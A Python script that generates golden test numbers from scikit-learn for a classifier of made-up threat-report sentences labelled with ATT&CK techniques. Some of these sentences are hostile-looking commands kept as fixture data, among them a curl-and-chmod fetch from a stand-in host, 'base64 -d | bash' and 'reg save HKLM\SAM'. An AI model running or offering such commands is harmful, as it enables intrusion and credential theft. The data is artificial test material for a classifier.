"""Golden numbers for ttp-lib/tests/suite/linear_golden.rs, from scikit-learn.

    python -m venv golden && golden/bin/pip install scikit-learn==1.7.2 numpy==2.2.6 scipy==1.15.3
    golden/bin/python environment/golden/linear.py > ttp-lib/tests/golden/linear.json

The sentences were made up for this. Both models are trained to the optimum, which is what ours
are held to: with scikit-learn's default tolerances the digits after the fourth are its own.
"""

import json
import sys

import numpy as np
import scipy
import sklearn
from sklearn.feature_extraction.text import CountVectorizer, TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_union
from sklearn.svm import LinearSVC

CLASSES = ["T1003", "T1027", "T1059", "T1105", "T1566"]
SENTENCES = {
    "T1003": [
        "The operators dumped LSASS memory with a renamed copy of procdump.exe.",
        "Mimikatz was run to read credentials from memory; the output went to C:\\Temp\\m.txt",
        "It copies the SAM and SYSTEM hives: reg save HKLM\\SAM s.hiv",
        "ntds.dit was taken from a shadow copy of the domain controller",
        "A module of the stealer reads passwords that browsers have saved.",
        "The group used comsvcs.dll, MiniDump, to write lsass_624.dmp to disk",
        "credentials credentials credentials: the log shows three dumps in one hour",
        "Cached domain hashes (DCC2) were extracted by the backdoor",
        "Le voleur lit les mots de passe enregistrés, même ceux protégés",
        "x86 and x64 builds of the dumper open lsass with PROCESS_VM_READ",
        "It asks for SeDebugPrivilege and then reads the memory of lsass.exe",
        "Security account manager was copied by the actor at 02:13",
    ],
    "T1027": [
        "Strings are XORed with 0x5A and the imports are resolved by hash.",
        "The payload is packed with UPX 3.96 and then base64-encoded",
        "Its macro hides behind 4,000 lines of junk code",
        "The script's variables have names such as l1lI1 and _0x3f2a",
        "The configuration is encrypted with RC4, key \"n0_k3y\".",
        "Der Schädling ist mehrfach verschleiert und größer als üblich",
        "Each sample is padded with zeros to 300 MB so that scanners skip it",
        "A steganographic PNG carries the second stage (logo_big.png)",
        "Control flow is flattened; the strings are decrypted on the stack",
        "The dropper is obfuscated with ConfuserEx — again",
        "base64 in base64 in base64",
        "Encrypted strings, encrypted strings, and a decoy 🎣",
    ],
    "T1059": [
        "PowerShell is started with -nop -w hidden -enc and a long string.",
        "cmd.exe /c whoami & ipconfig /all > a.txt",
        "A VBScript runs the batch file every 15 minutes",
        "The implant opens a reverse shell, bash -i, on port 4444",
        "Commands are passed to powershell.exe by the service",
        "It runs Python scripts that the operator uploads",
        "wscript.exe //B update.js was seen on 7 hosts",
        "The loader executes JavaScript through mshta",
        "Οι εντολές εκτελούνται μέσω PowerShell",
        "An AppleScript asks the user for a password, osascript -e",
        "Interactive commands were typed into cmd by hand: dir, net user, whoami",
        "It can run any command in a hidden shell and return the output",
    ],
    "T1105": [
        "The downloader fetches stage2.bin from hxxp://198[.]51[.]100[.]7/s",
        "certutil -urlcache -f was used to download the tool",
        "It downloads and runs further modules from its server.",
        "bitsadmin /transfer job1 fetched the archive",
        "The backdoor can upload files to the host, and download more",
        "curl -o /tmp/.x http://example.invalid/x && chmod +x /tmp/.x",
        "Additional tools, such as a port scanner, were copied to the server over SMB",
        "Скачивает дополнительные модули с сервера управления",
        "A second-stage payload of 1,2 MB is retrieved in 64 KB parts",
        "wget was called twice; the second download failed (404)",
        "New versions of the implant are pulled from a Dropbox folder",
        "The tool_kit.zip was transferred by FTP and unpacked in ProgramData",
    ],
    "T1566": [
        "Spear-phishing mails with a Word attachment were sent to 12 embassies.",
        "The mail carries an invoice_2021.docm as an attachment",
        "Victims get a link to a fake Outlook page by e-mail",
        "A phishing message in Portuguese — « Fatura » — had a ZIP attached",
        "The lure is a CV in RTF, sent from a compromised mailbox.",
        "Des courriels d'hameçonnage visaient le ministère",
        "Targets were sent LinkedIn messages with a job offer and a PDF",
        "メールの添付ファイルを開くと感染する",
        "Mails from info@example.invalid: subject RE: RE: payment",
        "Phishing, phishing, phishing: 3 waves in June",
        "The attachment, if opened, asks to enable macros",
        "ⓟhishing e\u0301tudiant with an ISO image attached",
    ],
}
# Also what is nothing after tokenising, what no class has seen, and capitals beyond ASCII.
UNSEEN = ["", "a ! 🦀 ?", "zzyzx qwrtp", "LSASS was dumped by POWERSHELL", "ÉTUDIANT İstanbul ΟΔΟΣ",
          "phishing link in a mail", "It downloads an encrypted payload", "x_1 \t\u00a0 y\u001cz\n²",
          "base64 -d | bash", "the the the"]
texts = [text for texts in SENTENCES.values() for text in texts] + ["?", "🦀 a"]
labels = [at for at, texts in enumerate(SENTENCES.values()) for _ in texts] + [1, 4]


def row(matrix, at):
    part = matrix[[at]].tocsr()
    part.sort_indices()
    return [part.indices.tolist(), part.data.tolist()]


def vectorizer(options):
    """Of `options` also ours: sizes, every 29th entry, some texts' rows."""
    ours = CountVectorizer if options.pop("counts") else TfidfVectorizer
    made = ours(**options).fit(texts)
    names = made.get_feature_names_out()
    entries = range(0, len(names), 29)
    idf = getattr(made, "idf_", None)
    return {"characters": options.get("analyzer") == "char_wb",
            "lengths": options.get("ngram_range", (1, 1)),
            "weighting": "counts" if idf is None else "tfidf",
            "sublinear": options.get("sublinear_tf", False),
            "size": len(names), "terms": [names[at] for at in entries],
            "idf": [] if idf is None else [idf[at] for at in entries],
            "rows": [row(made.transform(texts), at) for at in (6, 17, 60)],
            "unseen": [row(made.transform(UNSEEN), at) for at in range(len(UNSEEN))]}


def model(kind, classes):
    rows = [at for at, label in enumerate(labels) if label < classes]
    if kind == "tfidf-svm":
        features = make_union(TfidfVectorizer(ngram_range=(1, 2)),
                              TfidfVectorizer(analyzer="char_wb", ngram_range=(3, 5)))
        made = LinearSVC(C=0.5, tol=1e-8, max_iter=10**7, random_state=0)
    else:
        features = CountVectorizer()
        # The optimum by Newton's method: L-BFGS stops where the loss's last digits do.
        made = LogisticRegression(C=1.0, tol=1e-10, max_iter=10**4, solver="newton-cg")
    table = features.fit_transform([texts[at] for at in rows])
    made.fit(table, [labels[at] for at in rows])
    columns = list(range(0, table.shape[1], 41 if kind == "tfidf-svm" else 3))
    return {"kind": kind, "classes": classes, "width": table.shape[1],
            "decisions": made.decision_function(features.transform(texts + UNSEEN)).ravel().tolist(),
            "predicted": made.predict(features.transform(texts + UNSEEN)).tolist(),
            "intercepts": made.intercept_.tolist(), "columns": columns,
            "weights": made.coef_[:, columns].T.ravel().tolist()}


json.dump({
    "versions": {"scikit-learn": sklearn.__version__, "numpy": np.__version__,
                 "scipy": scipy.__version__},
    "classes": CLASSES, "texts": texts, "labels": labels, "unseen": UNSEEN,
    "vectorizers": [vectorizer(options) for options in (
        {"counts": True},
        {"counts": True, "ngram_range": (1, 2)},
        {"counts": True, "analyzer": "char_wb", "ngram_range": (3, 5)},
        {"counts": False, "ngram_range": (1, 2)},
        {"counts": False, "ngram_range": (1, 2), "sublinear_tf": True},
        {"counts": False, "analyzer": "char_wb", "ngram_range": (3, 5)},
    )],
    "models": [model(kind, classes) for kind in ("tfidf-svm", "counts-logistic")
               for classes in (5, 2)],
}, sys.stdout, indent=None)
print()
